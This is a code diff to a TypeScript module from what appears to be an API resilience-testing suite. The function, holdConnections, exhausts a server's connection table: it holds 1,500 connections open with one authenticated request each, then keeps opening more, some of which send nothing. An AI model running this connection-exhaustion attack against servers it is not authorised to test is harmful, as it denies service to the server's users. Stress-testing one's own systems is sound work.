@@ -1,15 +1,24 @@
 import type { Attack } from './attack.ts';
-import { keepOpen, sendOnEach, withSockets } from './open-sockets.ts';
+import { sendOnEach, withSockets } from './open-sockets.ts';
 import { bearer, request } from './requests.ts';
 
-/** Fills the table of connections with 1,500 that have sent one valid request each, and opens 50 others a second. */
+/**
+ * Fills the table of connections with 1,500 that have sent one valid request each. Then opens 50 a second: in turn one of
+ * those again and one that sends nothing. In small steps, because the attack is on the table, not on the time to accept
+ * connections.
+ */
 export const holdConnections: Attack = (target) =>
-  withSockets(target, async (sockets) => {
+  withSockets(target, async ({ open, wait, isOver }) => {
     const list = request('GET /v1/pets', [bearer(target.apiKey)]);
-    await keepOpen(sockets, 1_500, (socket) => socket.write(list));
-    while (!sockets.isOver()) {
-      await sockets.open();
-      await sockets.wait(20);
+    for (let opened = 0; opened < 1_500; opened += 20) {
+      await sendOnEach(open, 20, list);
+      await wait(20);
+    }
+    while (!isOver()) {
+      await sendOnEach(open, 1, list);
+      await wait(20);
+      await open();
+      await wait(20);
     }
   });
 
